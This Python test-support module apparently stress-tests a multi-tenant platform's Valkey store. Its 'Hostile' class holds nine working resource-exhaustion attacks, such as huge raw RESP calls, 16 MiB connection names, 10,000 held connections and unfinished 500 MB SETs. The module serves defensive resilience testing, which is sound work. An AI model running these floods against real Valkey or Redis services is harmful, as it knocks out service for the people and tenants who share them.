"""What can be done with a node key and a socket. Each attack goes on until `stop`."""

import socket
from collections.abc import Callable
from contextlib import ExitStack, suppress
from threading import Event, Thread

from valkey import Valkey
from valkey.exceptions import ValkeyError

from neve.datapath.client import Client
from neve.formats.keys import BucketKeys
from support.chains import ENGINE, IDENTITY

MIB = 1 << 20


class Hostile:
    """A hostile node with the addresses and rights of its handshake."""

    def __init__(self, url: str, key: str) -> None:
        self._client = Client.connect(
            url, key, IDENTITY, node="hostile", engine=ENGINE, promote=False
        )
        session = self._client.session
        self.tenant_id = session.tenant_id
        self.keys = BucketKeys(session.tenant_id, 0)
        self.space_id = session.space_id
        self.user, self.password = session.valkey.username, session.valkey.password
        host, _, port = session.valkey.seeds[0].rpartition(":")
        self.where = host, int(port)

    def close(self) -> None:
        with suppress(Exception):  # it may have been cut off
            self._client.close()

    def connect(self) -> Valkey:
        return Valkey(*self.where, username=self.user, password=self.password, socket_timeout=30)

    def dial(self, stack: ExitStack, *, login: bool = True) -> socket.socket:
        sock = stack.enter_context(socket.create_connection(self.where, timeout=5))
        if login:
            sock.sendall(f"AUTH {self.user} {self.password}\r\n".encode())
            sock.recv(100)
        return sock

    # Each returns when `stop` is set. Errors are expected: the platform defends itself.

    def ask_for_millions(self, stop: Event) -> None:
        # Encoded once: encoding each time would take processor time from the neighbour's client.
        keys = b"".join(b"$%d\r\n%b\r\n" % (len(key), key) for key in self.keys.arguments)
        ids = b"".join(b"$16\r\n%b\r\n" % n.to_bytes(16, "big") for n in range(2_000_000))
        head = b"*2000011\r\n$5\r\nFCALL\r\n$10\r\nneve_match\r\n$1\r\n7\r\n"
        with ExitStack() as stack:
            while not stop.is_set():
                try:
                    sock = self.dial(stack)
                    sock.settimeout(30)
                    while not stop.is_set():
                        sock.sendall(head + keys + b"$1\r\n1\r\n" + ids)
                        if not sock.recv(1 << 16):
                            break
                except OSError:
                    stop.wait(0.1)

    def store_junk(self, stop: Event) -> None:
        value, numbers = bytes(MIB), iter(range(1 << 40))
        self._repeat(stop, lambda c: c.set(self._junk(next(numbers)), value))

    def look_up_without_pause(self, stop: Event) -> None:
        """100 connections, each with 50 look-ups of 1,000 ids ahead."""
        values = [b"FCALL", b"neve_match", b"7", *self.keys.arguments, b"1"]
        values += [n.to_bytes(16, "big") for n in range(1000)]
        call = b"*%d\r\n" % len(values) + b"".join(b"$%d\r\n%b\r\n" % (len(v), v) for v in values)
        with ExitStack() as stack:
            while not stop.is_set():
                with suppress(OSError):
                    socks = [self.dial(stack) for _ in range(100)]
                    while not stop.wait(0.01):
                        for sock in socks:
                            sock.setblocking(False)
                            with suppress(BlockingIOError):
                                sock.sendall(call * 50)
                            with suppress(BlockingIOError):
                                if not sock.recv(1 << 22):
                                    raise ConnectionResetError
                stop.wait(1)

    def name_connections(self, stop: Event) -> None:
        """Gives connections names of 16 MiB, which Valkey counts for no user."""
        name = b"n" * (16 * MIB)
        with ExitStack() as stack:
            while not stop.is_set():
                with suppress(OSError):
                    for _ in range(20):
                        head = b"*4\r\n$5\r\nHELLO\r\n$1\r\n2\r\n$7\r\nSETNAME\r\n"
                        self.dial(stack).sendall(head + b"$%d\r\n%b\r\n" % (len(name), name))
                stop.wait(1)

    def be_refused(self, stop: Event) -> None:
        """Reads foreign keys with names of 16 MiB, which Valkey's logs keep."""
        name, numbers = bytes(16 * MIB), iter(range(1 << 40))
        self._repeat(stop, lambda c: c.get(b"%d" % next(numbers) + name))

    def _junk(self, number: int) -> bytes:
        return self.keys.block(1, b"junk%012d" % number)

    def fill_the_index(self, stop: Event) -> None:
        value, numbers = bytes(MIB), iter(range(1 << 40))
        index = self.keys.arguments[0]
        self._repeat(stop, lambda c: c.hset(index, b"junk%d" % next(numbers), value))

    def hold_connections(self, stop: Event) -> None:
        """Holds 10,000 connections, half of them logged in; reopens closed ones."""
        with ExitStack() as stack:
            held: list[socket.socket] = []
            while not stop.wait(0.5):
                held = [sock for sock in held if _is_open(sock)]
                with suppress(OSError):
                    while len(held) < 10_000 and not stop.is_set():
                        held.append(self.dial(stack, login=len(held) % 2 == 0))

    def announce_much(self, stop: Event) -> None:
        """Announces 8 SETs of 500 MB and sends no byte of the values."""
        head = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$%d\r\n" % (500 * MIB)
        with ExitStack() as stack:
            while not stop.is_set():
                with suppress(OSError):
                    for _ in range(8):
                        self.dial(stack).sendall(head + bytes(100_000))
                stop.wait(2)

    def read_nothing(self, stop: Event) -> None:
        """Asks for 1 MiB again and again on 8 connections and reads no answer."""
        key = self.keys.block(self.space_id, b"r" * 16)
        ask = b"*2\r\n$3\r\nGET\r\n$%d\r\n%b\r\n" % (len(key), key)
        with ExitStack() as stack:
            while not stop.is_set():
                with suppress(OSError, ValkeyError):
                    self.connect().set(key, bytes(MIB), px=60_000)
                    for _ in range(8):
                        self.dial(stack).sendall(ask * 60)
                stop.wait(1)

    def _repeat(self, stop: Event, act: Callable[[Valkey], object]) -> None:
        client = self.connect()
        while not stop.is_set():
            try:
                act(client)
            except (ValkeyError, OSError):
                stop.wait(0.1)


def _is_open(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        return sock.recv(100) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


ATTACKS: dict[str, Callable[[Hostile, Event], None]] = {
    "2,000,000 ids in a call": Hostile.ask_for_millions,
    "SET of 1 MiB without an end": Hostile.store_junk,
    "HSET of 1 MiB into its index": Hostile.fill_the_index,
    "10,000 idle connections": Hostile.hold_connections,
    "8 SETs of announced 500 MB": Hostile.announce_much,
    "8 readers that do not read": Hostile.read_nothing,
    "look-ups without a pause": Hostile.look_up_without_pause,
    "connections' names of 16 MiB": Hostile.name_connections,
    "refused names of 16 MiB": Hostile.be_refused,
}


def begin(attack: Callable[[Hostile, Event], None], hostile: Hostile, stop: Event) -> Thread:
    thread = Thread(target=attack, args=(hostile, stop), daemon=True)
    thread.start()
    return thread
